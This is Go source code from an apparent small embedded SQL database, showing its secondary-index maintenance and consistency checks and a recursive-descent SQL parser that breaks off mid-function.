	ix.entries = append(ix.entries, idxEntry{})
	copy(ix.entries[j+1:], ix.entries[j:])
	ix.entries[j] = idxEntry{key: key, row: to}
}

// rebuild reconstructs the index from scratch over rows.
func (ix *index) rebuild(rows [][]Value) {
	ix.entries = nil
	ix.buckets = nil
	ix.distinct = 0
	if ix.kind == indexHash {
		ix.buckets = make(map[string][]int)
		for pos, row := range rows {
			hk := hashKey(ix.keyFor(row))
			ix.buckets[hk] = append(ix.buckets[hk], pos)
		}
		ix.distinct = len(ix.buckets)
		return
	}
	ix.entries = make([]idxEntry, 0, len(rows))
	for pos, row := range rows {
		ix.entries = append(ix.entries, idxEntry{key: ix.keyFor(row), row: pos})
	}
	sort.Slice(ix.entries, func(i, j int) bool {
		c := compareKeys(ix.entries[i].key, ix.entries[j].key)
		if c != 0 {
			return c < 0
		}
		return ix.entries[i].row < ix.entries[j].row
	})
	for i, e := range ix.entries {
		if i == 0 || compareKeys(ix.entries[i-1].key, e.key) != 0 {
			ix.distinct++
		}
	}
}

// clone deep-copies the index for transaction snapshots.
func (ix *index) clone() *index {
	out := &index{
		name:     ix.name,
		table:    ix.table,
		kind:     ix.kind,
		cols:     ix.cols,
		colNames: ix.colNames,
		distinct: ix.distinct,
	}
	if ix.buckets != nil {
		out.buckets = make(map[string][]int, len(ix.buckets))
		for k, v := range ix.buckets {
			out.buckets[k] = append([]int(nil), v...)
		}
	}
	if ix.entries != nil {
		out.entries = make([]idxEntry, len(ix.entries))
		copy(out.entries, ix.entries)
	}
	return out
}

// lookupEq returns the positions of rows whose key equals key exactly.
func (ix *index) lookupEq(key []Value) []int {
	if ix.kind == indexHash {
		return ix.buckets[hashKey(key)]
	}
	lo, hi := ix.eqRange(key)
	if lo >= hi {
		return nil
	}
	out := make([]int, 0, hi-lo)
	for _, e := range ix.entries[lo:hi] {
		out = append(out, e.row)
	}
	return out
}

// eqRange returns the half-open entry range with key exactly equal.
func (ix *index) eqRange(key []Value) (int, int) {
	lo := sort.Search(len(ix.entries), func(i int) bool {
		return compareKeys(ix.entries[i].key, key) >= 0
	})
	hi := sort.Search(len(ix.entries), func(i int) bool {
		return compareKeys(ix.entries[i].key, key) > 0
	})
	return lo, hi
}

// rangeBounds computes the half-open entry range matching an
// equality prefix (first len(eqPrefix) key columns) plus an optional
// range constraint on the next key column. nil lo/hi leave that side
// unbounded within the prefix.
func (ix *index) rangeBounds(eqPrefix []Value, lo Value, loIncl bool, hi Value, hiIncl bool) (int, int) {
	// prefixCmp orders an entry against the constraint region.
	after := func(e idxEntry, boundary bool) bool {
		// boundary=false: first entry >= region start
		// boundary=true: first entry > region end
		for i, pv := range eqPrefix {
			if c := compare(e.key[i], pv); c != 0 {
				return c > 0
			}
		}
		k := len(eqPrefix)
		if !boundary {
			if lo == nil {
				return true
			}
			c := compare(e.key[k], lo)
			if loIncl {
				return c >= 0
			}
			return c > 0
		}
		if hi == nil {
			return false
		}
		c := compare(e.key[k], hi)
		if hiIncl {
			return c > 0
		}
		return c >= 0
	}
	start := sort.Search(len(ix.entries), func(i int) bool { return after(ix.entries[i], false) })
	end := sort.Search(len(ix.entries), func(i int) bool { return after(ix.entries[i], true) })
	if end < start {
		end = start
	}
	return start, end
}

// lookupRange returns the positions of rows matching an equality
// prefix plus an optional range on the next key column.
func (ix *index) lookupRange(eqPrefix []Value, lo Value, loIncl bool, hi Value, hiIncl bool) []int {
	s, e := ix.rangeBounds(eqPrefix, lo, loIncl, hi, hiIncl)
	if s >= e {
		return nil
	}
	out := make([]int, 0, e-s)
	for _, en := range ix.entries[s:e] {
		out = append(out, en.row)
	}
	return out
}

// size returns the number of indexed rows.
func (ix *index) size() int {
	if ix.kind == indexHash {
		n := 0
		for _, b := range ix.buckets {
			n += len(b)
		}
		return n
	}
	return len(ix.entries)
}

// --- table-level maintenance hooks ---

// indexMaintHit consults the maintenance fault point. On a fired fault
// the caller aborts the row mutation before applying it, so the table
// and its indexes remain mutually consistent at the pre-row state.
func (t *table) indexMaintHit() error {
	if len(t.indexes) == 0 {
		return nil
	}
	return fault.Hit(faultIndexMaint)
}

// indexInsert records a newly appended or replaced row.
func (t *table) indexInsert(pos int, row []Value) {
	for _, ix := range t.indexes {
		ix.insertRow(pos, row)
	}
}

// indexRemove drops a row about to be deleted or overwritten.
func (t *table) indexRemove(pos int, row []Value) {
	for _, ix := range t.indexes {
		ix.removeRow(pos, row)
	}
}

// indexMove relocates a row during swap-delete compaction.
func (t *table) indexMove(from, to int, row []Value) {
	for _, ix := range t.indexes {
		ix.moveRow(from, to, row)
	}
}

// indexUpdate re-keys a row mutated in place. oldVals carries the
// pre-mutation values of the key columns that changed; only indexes
// touching a changed column are re-keyed.
func (t *table) indexUpdate(pos int, oldRow, newRow []Value, changed []bool) {
	for _, ix := range t.indexes {
		touched := false
		for _, c := range ix.cols {
			if changed[c] {
				touched = true
				break
			}
		}
		if !touched {
			continue
		}
		ix.removeRow(pos, oldRow)
		ix.insertRow(pos, newRow)
	}
}

// rebuildIndexes reconstructs every secondary index from the rows.
func (t *table) rebuildIndexes() {
	for _, ix := range t.indexes {
		ix.rebuild(t.rows)
	}
}

// findIndex returns the table's index with the given name, or nil.
func (t *table) findIndex(name string) *index {
	for _, ix := range t.indexes {
		if strings.EqualFold(ix.name, name) {
			return ix
		}
	}
	return nil
}

// --- DDL ---

func (ex *executor) createIndex(st *CreateIndexStmt) error {
	db := ex.db
	key := strings.ToLower(st.Table)
	t, ok := db.tables[key]
	if !ok {
		return fmt.Errorf("sqldb: no such table: %s", st.Table)
	}
	if db.indexOwner(st.Name) != nil {
		if st.IfNotExists {
			return nil
		}
		return fmt.Errorf("sqldb: index %s already exists", st.Name)
	}
	kind := indexOrdered
	switch strings.ToUpper(st.Using) {
	case "", "ORDERED":
	case "HASH":
		kind = indexHash
	default:
		return fmt.Errorf("sqldb: unknown index kind %s (want HASH or ORDERED)", st.Using)
	}
	ix := &index{name: st.Name, table: t.name, kind: kind}
	seen := map[int]bool{}
	for _, c := range st.Cols {
		ci := t.colIndex(c)
		if ci < 0 {
			return fmt.Errorf("sqldb: table %s has no column %s", t.name, c)
		}
		if seen[ci] {
			return fmt.Errorf("sqldb: duplicate column %s in index %s", c, st.Name)
		}
		seen[ci] = true
		ix.cols = append(ix.cols, ci)
		ix.colNames = append(ix.colNames, t.cols[ci].Name)
	}
	// Build into the unpublished index: a fault or error at any point
	// before the final append leaves no trace of the index.
	if err := fault.Hit(faultIndexBuild); err != nil {
		return fmt.Errorf("sqldb: CREATE INDEX %s failed: %w", st.Name, err)
	}
	ix.rebuild(t.rows)
	if err := fault.Hit(faultIndexBuild); err != nil {
		return fmt.Errorf("sqldb: CREATE INDEX %s failed: %w", st.Name, err)
	}
	t.indexes = append(t.indexes, ix) // publish
	ex.db.resetPlanCaches()
	return nil
}

// indexOwner returns the table owning an index with the given name.
func (db *DB) indexOwner(name string) *table {
	for _, t := range db.tables {
		if t.findIndex(name) != nil {
			return t
		}
	}
	return nil
}

func (ex *executor) dropIndex(st *DropStmt) error {
	t := ex.db.indexOwner(st.Name)
	if t == nil {
		if st.IfExists {
			return nil
		}
		return fmt.Errorf("sqldb: no such index: %s", st.Name)
	}
	for i, ix := range t.indexes {
		if strings.EqualFold(ix.name, st.Name) {
			t.indexes = append(t.indexes[:i], t.indexes[i+1:]...)
			break
		}
	}
	ex.db.resetPlanCaches()
	return nil
}

// --- introspection & invariants ---

// IndexInfo describes one secondary index for catalog introspection.
type IndexInfo struct {
	Name    string
	Table   string
	Columns []string
	Kind    string // "ORDERED" or "HASH"
	Rows    int    // indexed rows (excludes NULL keys)
}

// TableIndexes returns the secondary indexes on a base table, sorted
// by name. The second return is false if the table does not exist.
func (db *DB) TableIndexes(table string) ([]IndexInfo, bool) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	t, ok := db.tables[strings.ToLower(table)]
	if !ok {
		return nil, false
	}
	t.mu.RLock()
	defer t.mu.RUnlock()
	out := make([]IndexInfo, 0, len(t.indexes))
	for _, ix := range t.indexes {
		out = append(out, IndexInfo{
			Name:    ix.name,
			Table:   t.name,
			Columns: append([]string(nil), ix.colNames...),
			Kind:    ix.kind.String(),
			Rows:    ix.size(),
		})
	}
	sort.Slice(out, func(i, j int) bool { return out[i].Name < out[j].Name })
	return out, true
}

// CheckIndexes verifies that every secondary index is exactly
// consistent with its table's rows: same indexed row set, correct
// positions, correct keys, sorted entries, accurate distinct counts.
// It is the invariant the chaos index engines assert after faults.
func (db *DB) CheckIndexes() error {
	db.mu.RLock()
	defer db.mu.RUnlock()
	for _, t := range db.tables {
		t.mu.RLock()
		err := t.checkIndexes()
		t.mu.RUnlock()
		if err != nil {
			return err
		}
	}
	return nil
}

func (t *table) checkIndexes() error {
	for _, ix := range t.indexes {
		want := &index{name: ix.name, table: ix.table, kind: ix.kind, cols: ix.cols, colNames: ix.colNames}
		want.rebuild(t.rows)
		if ix.distinct != want.distinct {
			return fmt.Errorf("sqldb: index %s on %s: distinct=%d, want %d", ix.name, t.name, ix.distinct, want.distinct)
		}
		if ix.kind == indexHash {
			if len(ix.buckets) != len(want.buckets) {
				return fmt.Errorf("sqldb: index %s on %s: %d buckets, want %d", ix.name, t.name, len(ix.buckets), len(want.buckets))
			}
			for hk, wb := range want.buckets {
				gb := append([]int(nil), ix.buckets[hk]...)
				sort.Ints(gb)
				wbs := append([]int(nil), wb...)
				sort.Ints(wbs)
				if len(gb) != len(wbs) {
					return fmt.Errorf("sqldb: index %s on %s: bucket size mismatch", ix.name, t.name)
				}
				for i := range gb {
					if gb[i] != wbs[i] {
						return fmt.Errorf("sqldb: index %s on %s: bucket rows %v, want %v", ix.name, t.name, gb, wbs)
					}
				}
			}
			continue
		}
		if len(ix.entries) != len(want.entries) {
			return fmt.Errorf("sqldb: index %s on %s: %d entries, want %d", ix.name, t.name, len(ix.entries), len(want.entries))
		}
		for i := range ix.entries {
			if ix.entries[i].row != want.entries[i].row || compareKeys(ix.entries[i].key, want.entries[i].key) != 0 {
				return fmt.Errorf("sqldb: index %s on %s: entry %d is (%v,%d), want (%v,%d)",
					ix.name, t.name, i, ix.entries[i].key, ix.entries[i].row, want.entries[i].key, want.entries[i].row)
			}
		}
	}
	return nil
}

// RowCount returns the number of rows in a base table. The second
// return is false if the table does not exist.
func (db *DB) RowCount(table string) (int, bool) {
	db.mu.RLock()
	defer db.mu.RUnlock()
	t, ok := db.tables[strings.ToLower(table)]
	if !ok {
		return 0, false
	}
	t.mu.RLock()
	defer t.mu.RUnlock()
	return len(t.rows), true
}
