package sqldb

import (
	"fmt"
	"strconv"
	"strings"
)

// parser is a recursive-descent parser over the token stream.
type parser struct {
	toks   []token
	pos    int
	params int // number of ? placeholders seen so far
}

// parseAll parses a semicolon-separated sequence of statements.
func parseAll(src string) ([]Stmt, error) {
	toks, err := lex(src)
	if err != nil {
		return nil, err
	}
	return parseTokens(toks)
}

// parseTokens parses an already-lexed token stream. The prepared-
// statement layer parses normalized streams (literals replaced by
// parameters) directly, without rebuilding text.
func parseTokens(toks []token) ([]Stmt, error) {
	p := &parser{toks: toks}
	var stmts []Stmt
	for {
		for p.acceptOp(";") {
		}
		if p.peek().kind == tokEOF {
			return stmts, nil
		}
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		stmts = append(stmts, s)
		if !p.acceptOp(";") && p.peek().kind != tokEOF {
			return nil, p.errf("expected ';' or end of input")
		}
	}
}

func (p *parser) peek() token { return p.toks[p.pos] }
func (p *parser) next() token { t := p.toks[p.pos]; p.pos++; return t }
func (p *parser) backup()     { p.pos-- }
func (p *parser) errf(format string, args ...interface{}) error {
	t := p.peek()
	return fmt.Errorf("sqldb: parse error near %q (pos %d): %s", t.text, t.pos, fmt.Sprintf(format, args...))
}

func (p *parser) acceptKeyword(kw string) bool {
	if t := p.peek(); t.kind == tokKeyword && t.text == kw {
		p.pos++
		return true
	}
	return false
}

func (p *parser) expectKeyword(kw string) error {
	if !p.acceptKeyword(kw) {
		return p.errf("expected %s", kw)
	}
	return nil
}

func (p *parser) acceptOp(op string) bool {
	if t := p.peek(); t.kind == tokOp && t.text == op {
		p.pos++
		return true
	}
	return false
}

func (p *parser) expectOp(op string) error {
	if !p.acceptOp(op) {
		return p.errf("expected %q", op)
	}
	return nil
}

// ident accepts an identifier; type keywords double as identifiers
// (SQLite allows e.g. a column named "text").
func (p *parser) ident() (string, error) {
	t := p.peek()
	if t.kind == tokIdent {
		p.pos++
		return t.text, nil
	}
	if t.kind == tokKeyword {
		switch t.text {
		case "INTEGER", "TEXT", "REAL", "BLOB", "BOOLEAN", "KEY", "REPLACE", "ALL", "DEFAULT", "END":
			p.pos++
			return strings.ToLower(t.text), nil
		}
	}
	return "", p.errf("expected identifier")
}

func (p *parser) parseStmt() (Stmt, error) {
	t := p.peek()
	if t.kind != tokKeyword {
		return nil, p.errf("expected statement")
	}
	switch t.text {
	case "CREATE":
		return p.parseCreate()
	case "DROP":
		return p.parseDrop()
	case "INSERT", "REPLACE":
		return p.parseInsert()
	case "UPDATE":
		return p.parseUpdate()
	case "DELETE":
		return p.parseDelete()
	case "SELECT":
		return p.parseSelect()
	case "BEGIN":
		p.next()
		p.acceptKeyword("TRANSACTION")
		return &TxnStmt{Kind: "BEGIN"}, nil
	case "COMMIT":
		p.next()
		p.acceptKeyword("TRANSACTION")
		return &TxnStmt{Kind: "COMMIT"}, nil
	case "ROLLBACK":
		p.next()
		p.acceptKeyword("TRANSACTION")
		return &TxnStmt{Kind: "ROLLBACK"}, nil
	case "EXPLAIN":
		p.next()
		inner, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		return &ExplainStmt{Target: inner}, nil
	}
	return nil, p.errf("unsupported statement %s", t.text)
}

func (p *parser) parseCreate() (Stmt, error) {
	p.next() // CREATE
	switch {
	case p.acceptKeyword("TABLE"):
		return p.parseCreateTable()
	case p.acceptKeyword("VIEW"):
		return p.parseCreateView()
	case p.acceptKeyword("TRIGGER"):
		return p.parseCreateTrigger()
	case p.acceptKeyword("INDEX"):
		return p.parseCreateIndex()
	}
	return nil, p.errf("expected TABLE, VIEW, TRIGGER, or INDEX")
}

func (p *parser) parseCreateIndex() (Stmt, error) {
	ine := p.parseIfNotExists()
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("ON"); err != nil {
		return nil, err
	}
	table, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectOp("("); err != nil {
		return nil, err
	}
	var cols []string
	for {
		c, err := p.ident()
		if err != nil {
			return nil, err
		}
		cols = append(cols, c)
		if p.acceptOp(",") {
			continue
		}
		if err := p.expectOp(")"); err != nil {
			return nil, err
		}
		break
	}
	// USING HASH|ORDERED is parsed context-sensitively: USING is not a
	// reserved word, so existing identifiers keep working.
	var using string
	if t := p.peek(); t.kind == tokIdent && upperASCII(t.text) == "USING" {
		p.pos++
		kind, err := p.ident()
		if err != nil {
			return nil, err
		}
		using = upperASCII(kind)
		if using != "HASH" && using != "ORDERED" {
			return nil, p.errf("expected HASH or ORDERED after USING")
		}
	}
	return &CreateIndexStmt{Name: name, IfNotExists: ine, Table: table, Cols: cols, Using: using}, nil
}

func (p *parser) parseIfNotExists() bool {
	if p.acceptKeyword("IF") {
		// NOT EXISTS is mandatory after IF here.
		p.acceptKeyword("NOT")
		p.acceptKeyword("EXISTS")
		return true
	}
	return false
}

func (p *parser) parseCreateTable() (Stmt, error) {
	ine := p.parseIfNotExists()
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectOp("("); err != nil {
		return nil, err
	}
	var cols []ColumnDef
	for {
		col, err := p.parseColumnDef()
		if err != nil {
			return nil, err
		}
		cols = append(cols, col)
		if p.acceptOp(",") {
			continue
		}
		if err := p.expectOp(")"); err != nil {
			return nil, err
		}
		break
	}
	return &CreateTableStmt{Name: name, IfNotExists: ine, Cols: cols}, nil
}

func (p *parser) parseColumnDef() (ColumnDef, error) {
	var def ColumnDef
	name, err := p.ident()
	if err != nil {
		return def, err
	}
	def.Name = name
	// Optional type.
	if t := p.peek(); t.kind == tokKeyword {
		switch t.text {
		case "INTEGER", "TEXT", "REAL", "BLOB", "BOOLEAN":
			def.Type = t.text
			p.pos++
		}
	}
	// Constraints.
	for {
		switch {
		case p.acceptKeyword("PRIMARY"):
			if err := p.expectKeyword("KEY"); err != nil {
				return def, err
			}
			def.PrimaryKey = true
		case p.acceptKeyword("NOT"):
			if err := p.expectKeyword("NULL"); err != nil {
				return def, err
			}
			def.NotNull = true
		case p.acceptKeyword("DEFAULT"):
			e, err := p.parseExpr()
			if err != nil {
				return def, err
			}
			def.Default = e
		default:
			return def, nil
		}
	}
}

func (p *parser) parseCreateView() (Stmt, error) {
	ine := p.parseIfNotExists()
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("AS"); err != nil {
		return nil, err
	}
	sel, err := p.parseSelect()
	if err != nil {
		return nil, err
	}
	return &CreateViewStmt{Name: name, IfNotExists: ine, Select: sel}, nil
}

func (p *parser) parseCreateTrigger() (Stmt, error) {
	ine := p.parseIfNotExists()
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("INSTEAD"); err != nil {
		return nil, err
	}
	if err := p.expectKeyword("OF"); err != nil {
		return nil, err
	}
	var event string
	switch {
	case p.acceptKeyword("INSERT"):
		event = "INSERT"
	case p.acceptKeyword("UPDATE"):
		event = "UPDATE"
	case p.acceptKeyword("DELETE"):
		event = "DELETE"
	default:
		return nil, p.errf("expected INSERT, UPDATE, or DELETE")
	}
	if err := p.expectKeyword("ON"); err != nil {
		return nil, err
	}
	view, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("BEGIN"); err != nil {
		return nil, err
	}
	var body []Stmt
	for !p.acceptKeyword("END") {
		s, err := p.parseStmt()
		if err != nil {
			return nil, err
		}
		body = append(body, s)
		if err := p.expectOp(";"); err != nil {
			return nil, err
		}
	}
	return &CreateTriggerStmt{Name: name, IfNotExists: ine, Event: event, View: view, Body: body}, nil
}

func (p *parser) parseDrop() (Stmt, error) {
	p.next() // DROP
	var kind string
	switch {
	case p.acceptKeyword("TABLE"):
		kind = "TABLE"
	case p.acceptKeyword("VIEW"):
		kind = "VIEW"
	case p.acceptKeyword("TRIGGER"):
		kind = "TRIGGER"
	case p.acceptKeyword("INDEX"):
		kind = "INDEX"
	default:
		return nil, p.errf("expected TABLE, VIEW, TRIGGER, or INDEX")
	}
	ifExists := false
	if p.acceptKeyword("IF") {
		if err := p.expectKeyword("EXISTS"); err != nil {
			return nil, err
		}
		ifExists = true
	}
	name, err := p.ident()
	if err != nil {
		return nil, err
	}
	return &DropStmt{Kind: kind, Name: name, IfExists: ifExists}, nil
}

func (p *parser) parseInsert() (Stmt, error) {
	orReplace := false
	if p.acceptKeyword("REPLACE") { // REPLACE INTO is sugar
		orReplace = true
	} else {
		p.next() // INSERT
		if p.acceptKeyword("OR") {
			if err := p.expectKeyword("REPLACE"); err != nil {
				return nil, err
			}
			orReplace = true
		}
	}
	if err := p.expectKeyword("INTO"); err != nil {
		return nil, err
	}
	table, err := p.ident()
	if err != nil {
		return nil, err
	}
	var cols []string
	if p.acceptOp("(") {
		for {
			c, err := p.ident()
			if err != nil {
				return nil, err
			}
			cols = append(cols, c)
			if p.acceptOp(",") {
				continue
			}
			if err := p.expectOp(")"); err != nil {
				return nil, err
			}
			break
		}
	}
	if p.acceptKeyword("VALUES") {
		var rows [][]Expr
		for {
			if err := p.expectOp("("); err != nil {
				return nil, err
			}
			var row []Expr
			for {
				e, err := p.parseExpr()
				if err != nil {
					return nil, err
				}
				row = append(row, e)
				if p.acceptOp(",") {
					continue
				}
				if err := p.expectOp(")"); err != nil {
					return nil, err
				}
				break
			}
			rows = append(rows, row)
			if !p.acceptOp(",") {
				break
			}
		}
		return &InsertStmt{OrReplace: orReplace, Table: table, Cols: cols, Rows: rows}, nil
	}
	sel, err := p.parseSelect()
	if err != nil {
		return nil, err
	}
	return &InsertStmt{OrReplace: orReplace, Table: table, Cols: cols, Select: sel}, nil
}

func (p *parser) parseUpdate() (Stmt, error) {
	p.next() // UPDATE
	table, err := p.ident()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("SET"); err != nil {
		return nil, err
	}
	var assigns []Assign
	for {
		col, err := p.ident()
		if err != nil {
			return nil, err
		}
		if err := p.expectOp("="); err != nil {
			return nil, err
		}
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		assigns = append(assigns, Assign{Col: col, Expr: e})
		if !p.acceptOp(",") {
			break
		}
	}
	var where Expr
	if p.acceptKeyword("WHERE") {
		where, err = p.parseExpr()
		if err != nil {
			return nil, err
		}
	}
	return &UpdateStmt{Table: table, Set: assigns, Where: where}, nil
}

func (p *parser) parseDelete() (Stmt, error) {
	p.next() // DELETE
	if err := p.expectKeyword("FROM"); err != nil {
		return nil, err
	}
	table, err := p.ident()
	if err != nil {
		return nil, err
	}
	var where Expr
	if p.acceptKeyword("WHERE") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		where = e
	}
	return &DeleteStmt{Table: table, Where: where}, nil
}

func (p *parser) parseSelect() (*SelectStmt, error) {
	sel := &SelectStmt{}
	for {
		core, err := p.parseSelectCore()
		if err != nil {
			return nil, err
		}
		sel.Cores = append(sel.Cores, core)
		if p.acceptKeyword("UNION") {
			if err := p.expectKeyword("ALL"); err != nil {
				return nil, p.errf("only UNION ALL is supported")
			}
			if err := p.expectKeyword("SELECT"); err != nil {
				return nil, err
			}
			p.backup()
			continue
		}
		break
	}
	if p.acceptKeyword("ORDER") {
		if err := p.expectKeyword("BY"); err != nil {
			return nil, err
		}
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			term := OrderTerm{Expr: e}
			if p.acceptKeyword("DESC") {
				term.Desc = true
			} else {
				p.acceptKeyword("ASC")
			}
			sel.OrderBy = append(sel.OrderBy, term)
			if !p.acceptOp(",") {
				break
			}
		}
	}
	if p.acceptKeyword("LIMIT") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		sel.Limit = e
		if p.acceptKeyword("OFFSET") {
			o, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			sel.Offset = o
		}
	}
	return sel, nil
}

func (p *parser) parseSelectCore() (*SelectCore, error) {
	if err := p.expectKeyword("SELECT"); err != nil {
		return nil, err
	}
	core := &SelectCore{}
	if p.acceptKeyword("DISTINCT") {
		core.Distinct = true
	}
	for {
		col, err := p.parseResultCol()
		if err != nil {
			return nil, err
		}
		core.Cols = append(core.Cols, col)
		if !p.acceptOp(",") {
			break
		}
	}
	if p.acceptKeyword("FROM") {
		ref, err := p.parseTableRef()
		if err != nil {
			return nil, err
		}
		core.From = &ref
		for {
			join, ok, err := p.parseJoin()
			if err != nil {
				return nil, err
			}
			if !ok {
				break
			}
			core.Joins = append(core.Joins, join)
		}
	}
	if p.acceptKeyword("WHERE") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		core.Where = e
	}
	if p.acceptKeyword("GROUP") {
		if err := p.expectKeyword("BY"); err != nil {
			return nil, err
		}
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			core.GroupBy = append(core.GroupBy, e)
			if !p.acceptOp(",") {
				break
			}
		}
	}
	if p.acceptKeyword("HAVING") {
		e, err := p.parseExpr()
		if err != nil {
			return nil, err
		}
		core.Having = e
	}
	return core, nil
}

func (p *parser) parseResultCol() (ResultCol, error) {
	if p.acceptOp("*") {
		return ResultCol{Star: true}, nil
	}
	// t.* lookahead
	if t := p.peek(); t.kind == tokIdent {
		save := p.pos
		name := p.next().text
		if p.acceptOp(".") && p.acceptOp("*") {
			return ResultCol{TableStar: name}, nil
		}
		p.pos = save
	}
	e, err := p.parseExpr()
	if err != nil {
		return ResultCol{}, err
	}
	col := ResultCol{Expr: e}
	if p.acceptKeyword("AS") {
		alias, err := p.ident()
		if err != nil {
			return ResultCol{}, err
		}
		col.Alias = alias
	} else if t := p.peek(); t.kind == tokIdent {
		col.Alias = p.next().text
	}
	return col, nil
}

func (p *parser) parseTableRef() (TableRef, error) {
	if p.acceptOp("(") {
		sel, err := p.parseSelect()
		if err != nil {
			return TableRef{}, err
		}
		if err := p.expectOp(")"); err != nil {
			return TableRef{}, err
		}
		ref := TableRef{Sub: sel}
		if p.acceptKeyword("AS") {
			alias, err := p.ident()
			if err != nil {
				return TableRef{}, err
			}
			ref.Alias = alias
		} else if t := p.peek(); t.kind == tokIdent {
			ref.Alias = p.next().text
		}
		return ref, nil
	}
	name, err := p.ident()
	if err != nil {
		return TableRef{}, err
	}
	ref := TableRef{Name: name}
	if p.acceptKeyword("AS") {
		alias, err := p.ident()
		if err != nil {
			return TableRef{}, err
		}
		ref.Alias = alias
	} else if t := p.peek(); t.kind == tokIdent {
		ref.Alias = p.next().text
	}
	return ref, nil
}

func (p *parser) parseJoin() (Join, bool, error) {
	var join Join
	switch {
	case p.acceptKeyword("LEFT"):
		p.acceptKeyword("OUTER")
		if err := p.expectKeyword("JOIN"); err != nil {
			return join, false, err
		}
		join.Left = true
	case p.acceptKeyword("INNER"):
		if err := p.expectKeyword("JOIN"); err != nil {
			return join, false, err
		}
	case p.acceptKeyword("JOIN"):
	default:
		return join, false, nil
	}
	ref, err := p.parseTableRef()
	if err != nil {
		return join, false, err
	}
	join.Ref = ref
	if p.acceptKeyword("ON") {
		e, err := p.parseExpr()
		if err != nil {
			return join, false, err
		}
		join.On = e
	}
	return join, true, nil
}

// Expression parsing with precedence climbing.

func (p *parser) parseExpr() (Expr, error) { return p.parseOr() }

func (p *parser) parseOr() (Expr, error) {
	l, err := p.parseAnd()
	if err != nil {
		return nil, err
	}
	for p.acceptKeyword("OR") {
		r, err := p.parseAnd()
		if err != nil {
			return nil, err
		}
		l = &Binary{Op: "OR", L: l, R: r}
	}
	return l, nil
}

func (p *parser) parseAnd() (Expr, error) {
	l, err := p.parseNot()
	if err != nil {
		return nil, err
	}
	for {
		// Don't consume AND that belongs to a BETWEEN (handled there).
		if t := p.peek(); t.kind == tokKeyword && t.text == "AND" {
			p.pos++
			r, err := p.parseNot()
			if err != nil {
				return nil, err
			}
			l = &Binary{Op: "AND", L: l, R: r}
			continue
		}
		return l, nil
	}
}

func (p *parser) parseNot() (Expr, error) {
	if p.acceptKeyword("NOT") {
		x, err := p.parseNot()
		if err != nil {
			return nil, err
		}
		return &Unary{Op: "NOT", X: x}, nil
	}
	return p.parseComparison()
}

func (p *parser) parseComparison() (Expr, error) {
	l, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		switch {
		case t.kind == tokOp && (t.text == "=" || t.text == "==" || t.text == "!=" || t.text == "<>" ||
			t.text == "<" || t.text == "<=" || t.text == ">" || t.text == ">="):
			op := t.text
			if op == "==" {
				op = "="
			}
			if op == "<>" {
				op = "!="
			}
			p.pos++
			r, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			l = &Binary{Op: op, L: l, R: r}
		case t.kind == tokKeyword && t.text == "IS":
			p.pos++
			not := p.acceptKeyword("NOT")
			if err := p.expectKeyword("NULL"); err != nil {
				return nil, err
			}
			l = &IsNull{X: l, Not: not}
		case t.kind == tokKeyword && t.text == "LIKE":
			p.pos++
			r, err := p.parseAdditive()
			if err != nil {
				return nil, err
			}
			l = &Binary{Op: "LIKE", L: l, R: r}
		case t.kind == tokKeyword && t.text == "NOT":
			// x NOT IN / NOT LIKE / NOT BETWEEN
			save := p.pos
			p.pos++
			switch {
			case p.acceptKeyword("IN"):
				in, err := p.parseInTail(l, true)
				if err != nil {
					return nil, err
				}
				l = in
			case p.acceptKeyword("LIKE"):
				r, err := p.parseAdditive()
				if err != nil {
					return nil, err
				}
				l = &Unary{Op: "NOT", X: &Binary{Op: "LIKE", L: l, R: r}}
			case p.acceptKeyword("BETWEEN"):
				b, err := p.parseBetweenTail(l, true)
				if err != nil {
					return nil, err
				}
				l = b
			default:
				p.pos = save
				return l, nil
			}
		case t.kind == tokKeyword && t.text == "IN":
			p.pos++
			in, err := p.parseInTail(l, false)
			if err != nil {
				return nil, err
			}
			l = in
		case t.kind == tokKeyword && t.text == "BETWEEN":
			p.pos++
			b, err := p.parseBetweenTail(l, false)
			if err != nil {
				return nil, err
			}
			l = b
		default:
			return l, nil
		}
	}
}

func (p *parser) parseInTail(l Expr, not bool) (Expr, error) {
	if err := p.expectOp("("); err != nil {
		return nil, err
	}
	if t := p.peek(); t.kind == tokKeyword && t.text == "SELECT" {
		sel, err := p.parseSelect()
		if err != nil {
			return nil, err
		}
		if err := p.expectOp(")"); err != nil {
			return nil, err
		}
		return &InExpr{X: l, Not: not, Sub: sel}, nil
	}
	var list []Expr
	if !p.acceptOp(")") {
		for {
			e, err := p.parseExpr()
			if err != nil {
				return nil, err
			}
			list = append(list, e)
			if p.acceptOp(",") {
				continue
			}
			if err := p.expectOp(")"); err != nil {
				return nil, err
			}
			break
		}
	}
	return &InExpr{X: l, Not: not, List: list}, nil
}

func (p *parser) parseBetweenTail(l Expr, not bool) (Expr, error) {
	lo, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	if err := p.expectKeyword("AND"); err != nil {
		return nil, err
	}
	hi, err := p.parseAdditive()
	if err != nil {
		return nil, err
	}
	return &Between{X: l, Not: not, Lo: lo, Hi: hi}, nil
}

func (p *parser) parseAdditive() (Expr, error) {
	l, err := p.parseMultiplicative()
	if err != nil {
		return nil, err
	}
	for {
		t := p.peek()
		if t.kind == tokOp && (t.text == "+" || t.text == "-" || t.text == "||") {
			p.pos++
			r, err := p.parseMultiplicative()
			if err != nil {
				return nil, err
			}
